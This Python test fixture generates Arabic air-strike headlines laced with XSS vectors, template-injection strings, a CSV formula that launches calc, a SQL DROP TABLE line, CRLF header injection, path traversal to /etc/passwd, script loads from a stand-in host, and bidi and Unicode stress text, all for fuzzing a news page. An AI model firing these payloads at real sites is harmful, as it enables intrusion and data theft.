"""Headlines that were made to run a script, break a page, or disorder what stands beside them; without end, and the
same ones for the same seed. Each tells of an air strike, so that a rule finds it, in words that no other has.

A payload that runs sets `window.ran`, or opens a dialog; a test looks for both.
"""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

RUN = "window.ran=1"
RLO, LRO, RLI, FSI, PDI, PDF, RLM, ALM = "\u202e", "\u202d", "\u2067", "\u2068", "\u2069", "\u202c", "\u200f", "\u061c"
ZWJ, ZWNBSP, NUL, SURROGATE, NEL, LS = "\u200d", "\ufeff", "\0", "\ud83d", "\x85", "\u2028"
FAMILY = "👩‍👩‍👧‍👦"
MARKS = [
    chr(each) for each in (*range(0x300, 0x36F), *range(0x64B, 0x65F), *range(0x6D6, 0x6DC), 0x20DD, 0x20E3, 0x489)
]
LETTERS = "ابتثجحخدذرزسشصضطظعغفقكلمنهوي"

_TAGS = ("script", "img", "svg", "iframe", "a", "body", "input", "details", "video", "math", "style", "base", "object")
_EVENTS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter")
_ENDS = (
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</h2></article></main>",
    '">',
    "'>",
    "</bdi>",
)

MARKUP = (
    "<script>{run}</script>",
    "<ScRiPt\n>{run}</sCrIpT >",
    "<script src=//elsewhere.example/x.js></script>",
    "<img src=x {event}={run}>",
    "<img/src='x'/{event}='{run}'>",
    "<svg {event}={run}><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><script>{run}</script></svg>",
    "<svg><style><img src=x {event}={run}></style>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x {event}={run}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src='javascript:parent.ran=1'></iframe>",
    "<object data='data:text/html,<script>parent.ran=1</script>'></object>",
    "<input autofocus {event}={run}>",
    "<details open ontoggle={run}>x",
    "<body {event}={run}>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<form action='//elsewhere.example'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "<base href='//elsewhere.example/'>",
    "<link rel=stylesheet href='//elsewhere.example/x.css'>",
    "<style>*{{position:fixed;font-size:900px}}</style>",
    "<h1 id=content class=live data-item data-live='//elsewhere.example'>x</h1>",
    "<div hx-get='//elsewhere.example' hx-trigger=load hx-on:load='{run}'>x</div>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<b {event}={run}>x</b>",
    "{end}<{tag} {event}={run}>",
    "{end}<script>{run}</script>",
    "<!--<img src='--><img src=x {event}={run}//'>",
    "<![CDATA[<script>{run}</script>]]>",
    "<noscript><p title='</noscript><img src=x {event}={run}>'>",
    "<%00script>{run}</script>",
    "<{tag}{nul} {event}={run}>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;img src=x {event}={run}&amp;gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "＜script＞{run}＜/script＞",
    "<table><tr><td><form><input name=csrf value=x>",
)
WORDS = (
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "' {event}='{run}",
    '" {event}="{run}" x="',
    "` {event}=`{run}",
    "{{{{ 7*7 }}}} {{% raise %}} {{{{ request.app.state.desk.config }}}}",
    "${{{run}}} #{{{run}}} <%= {run} %> {{{{constructor.constructor('{run}')()}}}}",
    "};alert(1);//",
    "*/alert(1)/*",
    "expression({run}) url(javascript:{run}) @import '//elsewhere.example'",
    '=HYPERLINK("//elsewhere.example","x")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "'; DROP TABLE alert; --",
    "%s %n %00 %0d%0aSet-Cookie: a=b",
    "\r\nContent-Type: text/html\r\n\r\n<script>{run}</script>",
    "../../../../etc/passwd",
    "null undefined NaN true [object Object]",
    "# heading\n- list\n| table | x |\n```",
)
BIDI = (
    *(RLO + "thgir eht morf", LRO + "من اليسار", RLI + "open", FSI + "open", PDI * 5 + "closed", PDF * 5 + "closed"),
    *(RLO * 9 + "x" + PDI, RLM * 20 + "!" + RLM, ALM + "12" + ALM, "(((", ")))", "« » ‹ › [ ] { } ( )", "<<<<>>>>"),
    *("12:00 – 13:00 (UTC+3) 5/6", "+963 11 222 33 44", "abc ابجد 123 אבג 456 – (abc) – ابجد!"),
    *("שלום " + RLO + "abc", "%100 -5 $7 ٪١٠٠ −٥"),
)
MADE = (
    *(NUL, SURROGATE, NEL, LS, ZWNBSP, ZWJ * 50, "\u200b" * 200, "\u00ad" * 100, "\u3164" * 30, "\u2800" * 30),
    *("\ufff9x\ufffay\ufffb", "\U000e0041\U000e0042", "\ue000", "\ufdd0", "\uffff", "\x1b[31mred\x1b[0m", "\x07"),
    *(
        "\x08" * 20,
        "\t" * 50,
        FAMILY * 60,
        "🏴" + "\U000e0067" * 20,
        "﷽" * 40,
        "𒐫" * 40,
        "꧅" * 40,
        "ﷺ" * 90,
        "W" * 3000,
    ),
    *("ـ" * 3000, "http://" + "a" * 2900 + ".example/", "ا" * 3000, "字" * 900, "-" * 3000, "\u00a0" * 2000),
    *(
        "x\u2060" * 900,
        "‗" * 900,
        "A\u0332" * 900,
        ("ع" + "\u0651\u064b\u0653\u0316" * 40) * 12,
        "Z" + "\u0351\u0323" * 300,
    ),
    *("ᄀ" * 900, "क्" * 600 + "ष", "\u0600" * 300 + "1", "Z" + "\u20dd" * 200),
)


def headlines(count: int, *, seed: int = 1) -> Iterator[str]:
    """Every payload of the tables stands among the first 250."""
    random = Random(seed)
    every = [*MARKUP, *WORDS, *BIDI, *MADE]
    for number in range(count):
        payload = every[number % len(every)] if number < 250 else _payload(random, every)
        yield _told(random, number, _filled(random, payload))


def _payload(random: Random, every: list[str]) -> str:
    """One, two or three of them, one of them perhaps cut off, or letters under a heap of marks."""
    kind = random.randrange(6)
    if kind == 0:
        return "".join(
            random.choice(LETTERS) + "".join(random.choices(MARKS, k=random.randrange(3, 60))) for _ in range(12)
        )
    parts = random.sample(every, k=random.randrange(1, 4))
    if kind == 1:
        parts[-1] = parts[-1][: random.randrange(1, len(parts[-1]) + 1)].replace("{", "").replace("}", "")
    return random.choice(("", " ", RLO, PDI, "\n", "، ")).join(parts)


def _filled(random: Random, payload: str) -> str:
    told = {
        "{run}": random.choice((RUN, "alert(1)", "confirm(1)", "print()")),
        "{event}": random.choice(_EVENTS),
        "{end}": random.choice(_ENDS),
        "{tag}": random.choice(_TAGS),
        "{nul}": NUL,
        "{{": "{",
        "}}": "}",
    }
    for name, value in told.items():
        payload = payload.replace(name, value)
    return payload


def _told(random: Random, number: int, payload: str) -> str:
    """Before the news, behind it, or within it. Its words are its own: each is a story by itself."""
    places = " ".join("".join(random.choices(LETTERS, k=random.randrange(4, 9))) for _ in range(5))
    news = f"غارة جوية {number} على {places}"
    return random.choice((f"{news} {payload}", f"{payload} {news}", f"غارة جوية {payload} {number} على {places}"))
